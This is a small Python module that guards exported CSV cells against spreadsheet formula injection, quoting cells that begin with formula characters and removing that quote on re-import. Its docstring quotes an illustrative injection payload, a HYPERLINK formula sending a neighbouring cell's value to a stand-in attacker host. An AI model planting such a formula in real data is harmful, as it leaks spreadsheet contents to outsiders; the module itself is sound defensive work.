"""Spreadsheet-safe CSV cells (CSV injection, OWASP): a cell that starts with =, +, -, @,
a tab or a carriage return is a formula to Excel, LibreOffice and Google Sheets, so a
subscriber named `=HYPERLINK("https://evil.example/?"&A2,"Click")` would run in the
editor's spreadsheet. `export` writes such a cell with a leading single quote (shown as
text, the quote hidden); `import` removes exactly that quote again, so an exported file
imports back unchanged.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralize(cell: str) -> str:
    """`cell` as a spreadsheet shows it as text: a leading quote before a formula start."""
    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell


def unneutralize(cell: str) -> str:
    """The inverse of neutralize: drop the quote it added, and only that one."""
    if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS):
        return cell[1:]
    return cell
